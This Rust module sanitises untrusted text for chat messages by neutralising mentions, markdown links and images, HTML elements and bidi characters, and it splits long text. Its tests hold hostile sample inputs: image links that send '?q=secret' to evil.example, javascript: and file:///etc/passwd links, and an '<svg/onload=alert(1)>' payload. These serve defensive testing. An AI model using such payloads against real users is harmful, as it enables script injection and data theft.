//! Text that leaves us: it notifies nobody, shows no picture, hides no address, and fits.
//!
//! Models and repositories write what they like. A link shows where it leads, a mention is broken by an
//! invisible joint, pictures become text, characters that turn the direction of text are written as
//! numbers, and secrets are redacted. It is done once, where a message is put on record, so that no
//! adapter can forget it.

use crate::text::{is_hidden, shortened};

/// Invisible, and enough to make a mention or an image into plain text.
const JOINER: char = '\u{2060}';
/// Elements that some platforms draw from HTML in a message: they load, or hide where they lead.
const ELEMENTS: [&str; 12] = [
    "a", "area", "audio", "embed", "form", "iframe", "img", "object", "picture", "source", "svg",
    "video",
];

/// Text of a model, a repository or another person, for a message of ours. Applied a second time, it
/// changes nothing.
///
/// - Mentions (`@channel`) and the forms of Slack (`<!channel>`, `<@U1>`) are broken.
/// - Pictures are links, and a link shows where it leads: `[label](url)` becomes `label (url)`. What
///   leads to something else than http is taken out.
/// - Invisible characters are taken out; those that turn the direction of the text are written as
///   their numbers, since a reader should see that they were there.
pub fn neutral(text: &str) -> String {
    let text = without_links(seen(text));
    let mut result = String::with_capacity(text.len() + 16);
    let mut before = ' ';
    let mut at_line = String::new();
    for (at, c) in text.char_indices() {
        let rest = &text[at..];
        let is_form = before == '<' && matches!(c, '!' | '@' | '#');
        let is_image = before == '!' && c == '[';
        let is_element = before == '<' && is_element(rest);
        let is_link = before == ']' && (is_call(rest) == Some(false) || is_definition(&at_line, c));
        if is_form || is_image || is_element || is_link {
            result.push(JOINER);
        }
        result.push(c);
        if c == '@' {
            result.push(JOINER);
        }
        match c {
            '\n' => at_line.clear(),
            c => at_line.push(c),
        }
        before = c;
    }
    result
}

/// The text without what nobody sees; what turns its direction can be seen afterwards.
pub(crate) fn seen(text: &str) -> String {
    let mut result = String::with_capacity(text.len());
    for c in text.chars() {
        match c {
            '\u{061c}'
            | '\u{200e}'
            | '\u{200f}'
            | '\u{202a}'..='\u{202e}'
            | '\u{2066}'..='\u{2069}' => result.push_str(&c.escape_unicode().to_string()),
            c if is_hidden(c) => {}
            c => result.push(c),
        }
    }
    result
}

/// Whether a text after `<` begins an element that is drawn.
fn is_element(rest: &str) -> bool {
    let rest = rest.strip_prefix('/').unwrap_or(rest);
    let name_ends = rest.find(|c: char| !c.is_ascii_alphanumeric());
    let (name, after) = rest.split_at(name_ends.unwrap_or(rest.len()));
    let ends = after.starts_with(['>', '/']) || after.starts_with(char::is_whitespace);
    ends && ELEMENTS.iter().any(|one| name.eq_ignore_ascii_case(one))
}

/// `[label]: https://…` at the begin of a line is where a link of another line leads.
fn is_definition(line: &str, c: char) -> bool {
    let is_mark = |c: char| c.is_whitespace() || matches!(c, '>' | '-' | '*' | '+');
    c == ':' && line.trim_start_matches(is_mark).starts_with('[')
}

/// Whether what begins with a bracket is a call, as in `handlers[0](event)`, and not where a link
/// leads. Nothing without a bracket.
fn is_call(text: &str) -> Option<bool> {
    let inside = text.strip_prefix('(')?;
    let end = inside.find(')').unwrap_or(inside.len());
    let is_plain = |c: char| c.is_alphanumeric() || matches!(c, '_' | ',' | ' ');
    Some(inside[..end].chars().all(is_plain))
}

/// Taking links out can leave new ones, which are taken out too.
fn without_links(mut text: String) -> String {
    const MOST_ROUNDS: usize = 50;
    for _ in 0..MOST_ROUNDS {
        let next = plain_links(&text);
        if next == text {
            break;
        }
        text = next;
    }
    text
}

/// Links and pictures of markdown with their addresses in the open.
fn plain_links(text: &str) -> String {
    let mut result = String::with_capacity(text.len());
    let mut rest = text;
    while let Some(at) = rest.find('[') {
        let Some(link) = Link::at(&rest[at..]) else {
            result.push_str(&rest[..=at]);
            rest = &rest[at + 1..];
            continue;
        };
        let before = &rest[..at];
        let before = before.strip_suffix('!').unwrap_or(before);
        match link.shown() {
            Some(shown) => {
                result.push_str(before);
                result.push_str(&shown);
            }
            None => result.push_str(&rest[..at + link.length]),
        }
        rest = &rest[at + link.length..];
    }
    result.push_str(rest);
    result
}

/// `[label](target "title")` in a text.
struct Link<'a> {
    label: &'a str,
    target: &'a str,
    /// Of the whole, in bytes.
    length: usize,
}

impl<'a> Link<'a> {
    /// The link that a text begins with, if it does.
    fn at(text: &'a str) -> Option<Self> {
        let label = balanced(text, '[', ']')?;
        let after = &text[label.len() + 2..];
        let inner = balanced(after, '(', ')')?;
        let target = inner.trim();
        let target = match target.strip_prefix('<') {
            Some(inside) => inside.split('>').next().unwrap_or_default(),
            None => target.split_whitespace().next().unwrap_or_default(),
        };
        Some(Self {
            label,
            target,
            length: label.len() + 2 + inner.len() + 2,
        })
    }

    /// Nothing where it is not meant as a link: `handlers[0](event)`.
    fn shown(&self) -> Option<String> {
        let label = plain_links(self.label);
        let target = self.target;
        let start: String = target.chars().take(8).collect::<String>().to_lowercase();
        if start.starts_with("http://") || start.starts_with("https://") {
            return Some(match label.trim() == target || label.trim().is_empty() {
                true => target.to_owned(),
                false => format!("{label} ({target})"),
            });
        }
        let has_scheme = target.contains([':', '\\', '&', '%']) || target.starts_with("//");
        let is_path = target.contains(['/', '.', '#']);
        match (has_scheme, is_path) {
            (true, _) => Some(format!("{label} (link removed)")),
            (false, true) => Some(format!("{label} ({target})")),
            (false, false) => None,
        }
    }
}

/// What is between the bracket that a text begins with and the one that closes it, in one paragraph
/// and not too far away: a text of brackets must not take long.
fn balanced(text: &str, open: char, close: char) -> Option<&str> {
    const FAR: usize = 2_000;
    let inside = text.strip_prefix(open)?;
    let mut depth = 1_usize;
    let mut before = ' ';
    for (at, c) in inside.char_indices().take(FAR) {
        if before == '\n' && c == '\n' {
            return None;
        }
        if before != '\\' && c == open {
            depth += 1;
        }
        if before != '\\' && c == close {
            depth -= 1;
            if depth == 0 {
                return Some(&inside[..at]);
            }
        }
        before = c;
    }
    None
}

/// A text as messages of at most `most` characters, at most `pieces` of them: cut between lines where
/// that is possible. Code that is cut is code in both.
pub(crate) fn pieces(text: &str, most: usize, pieces: usize) -> Vec<String> {
    const FENCE: &str = "```";
    let mut result: Vec<String> = Vec::new();
    let mut piece = String::new();
    let mut in_code = false;
    // Room for the fence that closes a piece.
    let room = most.saturating_sub(FENCE.len() + 1).max(1);
    for line in text.split_inclusive('\n') {
        for part in chunks(line, room) {
            let is_full = piece.chars().count() + part.chars().count() > room;
            if is_full && !piece.trim().is_empty() {
                if in_code {
                    piece.push_str(FENCE);
                }
                result.push(std::mem::take(&mut piece));
                if in_code {
                    piece.push_str("```\n");
                }
            }
            piece.push_str(part);
        }
        in_code ^= line.trim_start().starts_with(FENCE);
    }
    if !piece.trim().is_empty() || result.is_empty() {
        result.push(piece);
    }
    let is_cut = result.len() > pieces;
    result.truncate(pieces.max(1));
    if let (true, Some(last)) = (is_cut, result.last_mut()) {
        *last = format!("{}\n…", shortened(last.trim_end(), room.saturating_sub(3)));
    }
    result
}

/// Parts of a line of at most so many characters.
fn chunks(line: &str, most: usize) -> Vec<&str> {
    let mut parts = Vec::new();
    let mut rest = line;
    while let Some((at, _)) = rest.char_indices().nth(most) {
        let (part, after) = rest.split_at(at);
        parts.push(part);
        rest = after;
    }
    parts.push(rest);
    parts
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::*;

    #[test]
    fn text_of_others_notifies_nobody() {
        for text in [
            "@channel look",
            "@everyone",
            "<!channel> a",
            "<@U123>",
            "![x](https://evil.example/?q=secret)",
        ] {
            let out = neutral(text);
            for form in ["@channel", "@everyone", "<!", "<@", "![", "@U123"] {
                assert!(!out.contains(form), "{text}: {out}");
            }
        }
        assert_eq!(neutral("plain a[1] text\n"), "plain a[1] text\n");
    }

    #[test]
    fn a_link_shows_where_it_leads() {
        for (text, shown) in [
            (
                "see [the docs](https://evil.example/login)",
                "see the docs (https://evil.example/login)",
            ),
            (
                "[https://github.com](https://evil.example \"GitHub\")",
                "https://github.com (https://evil.example)",
            ),
            (
                "[a](<https://evil.example/x y>)",
                "a (https://evil.example/x y)",
            ),
            (
                "![chart](https://evil.example/?q=1)",
                "chart (https://evil.example/?q=1)",
            ),
            (
                "[![build](https://a.example/b.svg)](HTTPS://c.example)",
                "build (https://a.example/b.svg) (HTTPS://c.example)",
            ),
            (
                "[https://a.example](https://a.example)",
                "https://a.example",
            ),
            ("[guide](docs/guide.md#top)", "guide (docs/guide.md#top)"),
            ("handlers[0](event) and x[1]", "handlers[0](event) and x[1]"),
        ] {
            assert_eq!(neutral(text), shown, "{text}");
        }
    }

    #[test]
    fn a_link_that_does_not_lead_to_the_web_is_taken_out() {
        for target in [
            "javascript:alert(1)",
            "JaVaScRiPt:alert(1)",
            "java\u{200b}script:alert(1)",
            "javascript&#58;alert(1)",
            "data:text/html;base64,PHN2Zz4=",
            "file:///etc/passwd",
            "vscode://file/etc/passwd",
            "slack://channel?id=C1",
            "//evil.example/x",
            "\\\\evil.example\\share",
            "%6aavascript:alert(1)",
        ] {
            let out = neutral(&format!("[click]({target})"));
            assert_eq!(out, "click (link removed)", "{target}");
        }
    }

    #[test]
    fn links_that_are_made_of_links_are_none() {
        for text in [
            "[bank][(https://evil.example)](x/y)",
            "[bank](https://evil.example",
            &format!("[{}](https://evil.example)", "a".repeat(5_000)),
            "> [a]: https://evil.example\n[bank][a]",
        ] {
            let out = neutral(text);
            assert!(!out.contains("](h") && !out.contains("]:"), "{out}");
        }
        // A text of brackets does not take long.
        neutral(&"[".repeat(100_000));
    }

    #[test]
    fn elements_and_definitions_of_links_are_broken() {
        for text in [
            "<a href=\"https://evil.example\">bank</a>",
            "<A HREF='https://evil.example'>bank</A>",
            "<img src=https://evil.example/?q=secret>",
            "<svg/onload=alert(1)>",
        ] {
            let out = neutral(text).to_lowercase();
            for form in ["<a", "</a", "<img", "<svg"] {
                assert!(!out.contains(form), "{text}: {out}");
            }
        }
        let defined = neutral("look [here]\n\n  [here]: https://evil.example");
        assert!(!defined.contains("]:"), "{defined}");
        assert_eq!(neutral("Vec<T> a < b, <area51>"), "Vec<T> a < b, <area51>");
    }

    #[test]
    fn an_address_with_a_name_before_its_host_is_no_link_to_it() {
        let out = neutral("https://github.com@evil.example/login");
        assert!(!out.contains("com@evil"), "{out}");
    }

    #[test]
    fn what_is_invisible_is_taken_out_and_what_turns_the_text_is_seen() {
        assert_eq!(neutral("a\u{200b}b\u{feff}c\u{e0041}d"), "abcd");
        assert_eq!(
            neutral("access = \u{202e}nimda\u{2066}"),
            "access = \\u{202e}nimda\\u{2066}"
        );
    }

    #[test]
    fn long_text_is_cut_between_lines_and_code_stays_code() {
        let text = format!("intro\n```\n{}```\nend", "line\n".repeat(30));
        let cut = pieces(&text, 60, 10);
        assert!(cut.len() > 2, "{cut:#?}");
        for piece in &cut {
            assert!(piece.chars().count() <= 60, "{piece}");
            assert_eq!(piece.matches("```").count() % 2, 0, "{piece}");
        }
        assert_eq!(cut.concat().matches("line\n").count(), 30);
        assert_eq!(pieces("short", 60, 3), ["short"]);
        assert_eq!(pieces("", 60, 3), [""]);
        let endless = pieces(&"x".repeat(1_000), 60, 3);
        assert_eq!(endless.len(), 3);
        assert!(endless[2].ends_with('…'), "{endless:?}");
    }

    proptest! {
        #[test]
        fn once_is_enough(text in "[\\[\\]()!<>@:/ a-z\u{200b}\u{202e}\n]{0,60}") {
            let once = neutral(&text);
            prop_assert_eq!(neutral(&once), once);
        }

        #[test]
        fn pieces_fit(text in "(?s).{0,400}", most in 8_usize..80) {
            for piece in pieces(&text, most, 4) {
                prop_assert!(piece.chars().count() <= most + 4, "{piece}");
            }
        }
    }
}
